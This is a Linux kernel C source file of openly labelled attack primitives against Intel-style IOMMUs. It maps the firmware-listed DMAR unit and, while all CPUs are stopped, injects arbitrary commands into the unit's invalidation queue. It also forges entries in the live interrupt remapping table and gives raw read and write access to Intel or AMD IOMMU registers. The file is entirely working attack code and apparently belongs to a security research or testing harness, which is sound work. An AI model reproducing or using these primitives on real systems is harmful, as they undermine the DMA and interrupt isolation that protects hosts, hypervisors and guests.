// SPDX-License-Identifier: GPL-2.0-only
/* Attacks by way of an IOMMU of Intel's kind, whose tables and queue are Linux's. */
#include <linux/acpi.h>
#include <linux/io.h>
#include <linux/iopoll.h>
#include <linux/slab.h>
#include <linux/stop_machine.h>

#include "amd.h"
#include "iommu.h"

#define QUEUE_HEAD	0x80
#define QUEUE_TAIL	0x88
#define QUEUE_ADDRESS	0x90
#define QUEUE_WIDE	BIT(11)
#define QUEUE_SIZE	GENMASK(2, 0)
#define TABLE		0xb8
#define TABLE_SIZE	GENMASK(3, 0)
#define ADDRESS		GENMASK_ULL(63, 12)

/* Descriptors: all entries for interrupts, a wait that stores 1. */
#define INTERRUPTS	4
#define WAIT		(5 | BIT(5) | BIT_ULL(32))

struct unit {
	void __iomem *registers;
	const u64 *commands;
	unsigned int count;
	u64 stored;
	int error;
};

/**
 * attack_map_unit() - map the registers of the first unit that the firmware lists
 *
 * Context: Process.
 * Return: the registers, for iounmap(), or NULL.
 */
void __iomem *attack_map_unit(void)
{
	const struct acpi_dmar_hardware_unit *unit;
	struct acpi_table_header *table;
	void __iomem *registers = NULL;

	if (ACPI_FAILURE(acpi_get_table(ACPI_SIG_DMAR, 0, &table)))
		return NULL;
	unit = (void *)table + sizeof(struct acpi_table_dmar);
	if (unit->header.type == ACPI_DMAR_TYPE_HARDWARE_UNIT)
		registers = ioremap(unit->address, PAGE_SIZE);
	acpi_put_table(table);
	return registers;
}

static int move_tail(struct unit *unit, u64 tail)
{
	u64 head;

	writel(tail, unit->registers + QUEUE_TAIL);
	return readq_poll_timeout_atomic(unit->registers + QUEUE_HEAD, head, head == tail, 1,
					 5000000);
}

/*
 * Has the unit carry commands out. The queue goes round once, so that Linux finds its tail where
 * it was. No CPU of Linux uses it meanwhile.
 */
static int go_round(void *data)
{
	struct unit *unit = data;
	u64 address = readq(unit->registers + QUEUE_ADDRESS);
	u64 tail = readl(unit->registers + QUEUE_TAIL);
	u64 step = address & QUEUE_WIDE ? 32 : 16;
	u64 size = PAGE_SIZE << (address & QUEUE_SIZE), offset;
	void *queue = __va(address & ADDRESS);

	for (offset = 0; offset < size; offset += step) {
		u64 *descriptor = queue + (tail + offset) % size;

		memset(descriptor, 0, step);
		if (offset / step < unit->count) {
			descriptor[0] = unit->commands[offset / step];
			continue;
		}
		descriptor[0] = WAIT;
		descriptor[1] = __pa(&unit->stored);
	}
	unit->error = move_tail(unit, (tail + size - step) % size) ?: move_tail(unit, tail);
	return 0;
}

/**
 * attack_command() - have the unit carry out commands that are not Linux's
 * @commands: the first halves of their descriptors; the second ones are 0
 * @count: how many, less than fit into its queue
 *
 * Context: Process.
 * Return: 0 or a negative error.
 */
int attack_command(const u64 *commands, unsigned int count)
{
	struct unit *unit;
	int error = -ENODEV;

	/* The unit stores there. */
	unit = kzalloc(sizeof(*unit), GFP_KERNEL);
	if (!unit)
		return -ENOMEM;
	unit->commands = commands;
	unit->count = count;
	unit->registers = attack_map_unit();
	if (unit->registers) {
		error = stop_machine(go_round, unit, NULL) ?: unit->error;
		iounmap(unit->registers);
	}
	kfree(unit);
	return error;
}

/**
 * attack_remapping() - forge an entry for interrupts, and tell the unit
 * @index: which one
 * @low: its low half
 * @high: its high half
 *
 * Context: Process.
 * Return: 0 or a negative error.
 */
int attack_remapping(unsigned int index, u64 low, u64 high)
{
	void __iomem *registers = attack_map_unit();
	const u64 command = INTERRUPTS;
	u64 table, *entry;

	if (!registers)
		return -ENODEV;
	table = readq(registers + TABLE);
	iounmap(registers);
	if (index >= 2u << (table & TABLE_SIZE))
		return -EINVAL;
	entry = __va(table & ADDRESS) + 16ul * index;
	WRITE_ONCE(entry[1], high);
	WRITE_ONCE(entry[0], low);
	return attack_command(&command, 1);
}

/**
 * attack_unit() - access 32 bits of the unit's registers, of either kind
 * @offset: which
 * @value: what to write, or NULL
 * @result: what is read
 *
 * Context: Process.
 * Return: 0 or a negative error.
 */
int attack_unit(unsigned int offset, const u64 *value, u32 *result)
{
	void __iomem *registers = attack_map_unit();

	if (registers) {
		offset &= 0xffc;
	} else {
		registers = attack_map_amd_unit();
		offset &= 0x3ffc;
	}
	if (!registers)
		return -ENODEV;
	if (value)
		writel(*value, registers + offset);
	*result = readl(registers + offset);
	iounmap(registers);
	return 0;
}
